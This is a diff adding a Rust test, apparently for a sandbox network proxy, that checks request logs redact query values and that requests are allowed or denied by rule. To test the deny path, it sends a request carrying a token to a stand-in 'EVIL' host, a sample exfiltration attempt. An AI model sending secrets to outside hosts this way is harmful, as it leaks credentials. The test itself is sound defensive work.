@@ -54,3 +54,23 @@ async fn denials_are_recorded_with_their_rule() {
     assert_eq!((r.verdict, r.bytes_up, r.bytes_down), (LogVerdict::Denied, 0, 0));
     assert_eq!(r.rule.as_deref(), Some("preset deny-all (default deny)"));
 }
+
+#[tokio::test]
+async fn an_http_request_is_logged_with_its_path_query_values_redacted_and_its_status() {
+    let fx = Fixture::start().await;
+    let port = fx.raw.port();
+    fx.rules(Preset::DenyAll, &format!("allow network {RAW}:*\n{ADDRESS_RULES}"));
+    let host = format!("{RAW}:{port}");
+    let res =
+        exchange(&mut fx.client(), &get(&format!("http://{host}/v1/models?key=SECRET1&alt=sse"), &host, "")).await;
+    assert_eq!(res.status, 200);
+    let evil = format!("{EVIL}:{}", fx.evil_http.port());
+    assert_eq!(
+        exchange(&mut fx.client(), &get(&format!("http://{evil}/x?token=SECRET2"), &evil, "")).await.status,
+        403
+    );
+    let records = fx.sink.wait_for(2).await;
+    let got: Vec<_> = records.iter().map(|r| (r.method.as_str(), r.path.as_deref(), r.status)).collect();
+    assert_eq!(got, [("GET", Some("/v1/models?key=…&alt=…"), Some(200)), ("GET", Some("/x?token=…"), Some(403))]);
+    assert!(!format!("{records:?}").contains("SECRET"), "query values never reach the log");
+}
